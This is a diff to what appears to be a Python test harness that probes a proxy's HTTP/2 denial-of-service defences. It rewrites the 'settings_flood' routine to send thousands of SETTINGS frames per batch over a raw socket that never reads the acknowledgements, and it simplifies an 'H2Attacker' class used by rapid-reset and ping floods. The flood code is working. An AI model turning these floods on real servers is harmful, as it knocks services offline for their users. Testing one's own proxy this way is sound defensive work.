@@ -380,8 +380,8 @@ async def connect_close(ctx: Ctx) -> dict[str, Any]:
 
 
 class H2Attacker:
-    """One HTTP/2 connection spoken in raw frames; a reader task (unless ``reading`` is
-    False) acknowledges the proxy's SETTINGS and notes its GOAWAY or close."""
+    """One HTTP/2 connection spoken in raw frames; a reader task acknowledges the proxy's
+    SETTINGS and notes its GOAWAY or close."""
 
     def __init__(self, address: tuple[str, int]) -> None:
         self.address = address
@@ -391,19 +391,19 @@ class H2Attacker:
         self.write_failed: float | None = None
         self._frames = FrameReader()
 
-    async def open(self, *, reading: bool = True) -> None:
+    async def open(self) -> None:
         self.reader, self.writer = await asyncio.wait_for(
             asyncio.open_connection(*self.address), 10
         )
         self.writer.write(PREFACE + frame(SETTINGS, 0, 0))
         self.started = time.monotonic()
-        # The proxy's SETTINGS come first; acknowledge them, then (maybe) stop reading.
+        # The proxy's SETTINGS come first; acknowledge them.
         until = self.started + 5
         while not self.frames_in["SETTINGS"] and self.ending is None:
             await self._read_once(until)
             if time.monotonic() > until:
                 break
-        self._task = asyncio.ensure_future(self._read_loop()) if reading else None
+        self._task: asyncio.Future[None] | None = asyncio.ensure_future(self._read_loop())
 
     def _took(self) -> float:
         return time.monotonic() - self.started
@@ -476,12 +476,10 @@ class H2Attacker:
         return self.ending or Ending("open")
 
 
-async def _h2_flood(
-    ctx: Ctx, make_batch: Callable[[int], tuple[bytes, int]], *, reading: bool = True
-) -> dict[str, Any]:
+async def _h2_flood(ctx: Ctx, make_batch: Callable[[int], tuple[bytes, int]]) -> dict[str, Any]:
     """Send batches until the proxy cuts the connection, stops reading, or time is up."""
     attacker = H2Attacker(ctx.address)
-    await attacker.open(reading=reading)
+    await attacker.open()
     until = time.monotonic() + ctx.args.flood_seconds
     units, i = 0, 0
     while time.monotonic() < until:
@@ -517,12 +515,74 @@ async def rapid_reset(ctx: Ctx) -> dict[str, Any]:
     return result
 
 
+def _peek_goaway(sock: socket.socket) -> tuple[str | None, bool]:
+    """Look at what the proxy sent without taking it off the socket (the proxy still sees
+    a client that reads nothing): (its GOAWAY, if there is one yet; whether it is gone)."""
+    try:
+        data = sock.recv(1 << 20, socket.MSG_PEEK | socket.MSG_DONTWAIT)
+    except BlockingIOError:
+        return None, False
+    except OSError:
+        return None, True
+    goaway = next((p for k, _, _, p in FrameReader().feed(data) if k == GOAWAY), None)
+    return (None if goaway is None else goaway_of(goaway)), not data
+
+
 async def settings_flood(ctx: Ctx) -> dict[str, Any]:
-    """SETTINGS frames, each to be acknowledged, from a client that never reads."""
+    """SETTINGS frames, each to be acknowledged, from a client that never reads: a raw
+    socket that takes nothing off after the handshake, and peeks every 50 ms for a GOAWAY.
+
+    (Not H2Attacker: asyncio's transport would read for us, and its StreamReader raises a
+    reset before handing over a GOAWAY it already holds.)"""
+    loop = asyncio.get_running_loop()
+    sock = socket.socket()
+    sock.setblocking(False)
+    await asyncio.wait_for(loop.sock_connect(sock, ctx.address), 10)
+    await loop.sock_sendall(sock, PREFACE + frame(SETTINGS, 0, 0))
+    started = time.monotonic()
+    frames = FrameReader()
+    handshake = started + 5
+    while time.monotonic() < handshake:  # the proxy's SETTINGS, then not another byte
+        data = await asyncio.wait_for(loop.sock_recv(sock, 65536), handshake - time.monotonic())
+        if not data or any(k == SETTINGS and not f & ACK for k, f, _, _ in frames.feed(data)):
+            break
+    await loop.sock_sendall(sock, frame(SETTINGS, ACK, 0))
     one = frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_HEADER_TABLE_SIZE, 4096))
-    result = await _h2_flood(ctx, lambda i: (one * 1000, 1000), reading=False)
-    result["notes"] = f"{result['units_sent']:,} SETTINGS taken, none of the ACKs read"
-    return result
+    batch = one * 1000
+    until = time.monotonic() + ctx.args.flood_seconds
+    ending: Ending | None = None
+    sent, offset, write_failed, next_peek = 0, 0, None, 0.0
+    while (left := until - time.monotonic()) > 0 and ending is None:
+        if time.monotonic() >= next_peek:
+            goaway, gone = _peek_goaway(sock)
+            if goaway or gone:
+                ending = Ending(goaway or "close", time.monotonic() - started)
+                break
+            next_peek = time.monotonic() + 0.05
+        try:
+            n = sock.send(batch[offset:])
+        except BlockingIOError:
+            await _writable(sock, min(0.05, left))  # the proxy stopped reading us
+            continue
+        except OSError:
+            write_failed = time.monotonic() - started
+            break
+        sent += n
+        offset = (offset + n) % len(batch)
+        await asyncio.sleep(0)
+    if ending is None:
+        goaway, gone = _peek_goaway(sock)  # a GOAWAY queued before a reset is still there
+        if goaway or gone or write_failed is not None:
+            how = goaway or ("reset" if write_failed is not None else "close")
+            ending = Ending(how, write_failed or time.monotonic() - started)
+    _rst_close(sock)
+    units = sent // len(one)
+    return {
+        "endings": [ending or Ending("open")],
+        "units_sent": units,
+        "bytes_sent": sent,
+        "notes": f"{units:,} SETTINGS taken, none of the ACKs read",
+    }
 
 
 async def ping_flood(ctx: Ctx) -> dict[str, Any]:
